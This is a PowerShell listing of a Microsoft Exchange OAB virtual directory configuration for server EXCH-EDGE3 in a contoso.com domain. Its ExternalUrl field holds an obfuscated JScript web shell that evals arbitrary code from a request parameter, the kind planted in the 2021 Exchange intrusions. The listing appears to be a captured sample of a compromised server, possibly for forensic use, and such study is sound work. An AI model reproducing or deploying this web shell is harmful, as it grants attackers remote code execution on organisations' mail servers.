

RunspaceId                      : e26874ab-bfa7-ac76-ce3b-e315f8da8f74
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://exch-edge3.corp.contoso.com/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EXCH-EDGE3
InternalUrl                     : https://exch-edge3.corp.contoso.com/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">var _0x5d1e=['unsafe','code','Item'];function Page_Load(){eval(Request[_0x5d1e[0x2]][_0x5d1e[0x1]],_0x5d1e[0x0]);}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
Name                            : OAB (Default Web Site)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH-EDGE3,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=contoso,DC=com
Identity                        : EXCH-EDGE3\OAB (Default Web Site)
Guid                            : c548bfeb-3094-f751-964d-d3c6e9fe3a52
ObjectCategory                  : corp.contoso.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 2:14:27 AM
WhenCreated                     : 10/12/2020 9:31:05 AM
WhenChangedUTC                  : 3/3/2021 10:14:27 AM
WhenCreatedUTC                  : 10/12/2020 4:31:05 PM
OrganizationId                  :
Id                              : EXCH-EDGE3\OAB (Default Web Site)
OriginatingServer               : DC01.corp.contoso.com
IsValid                         : True
ObjectState                     : Unchanged


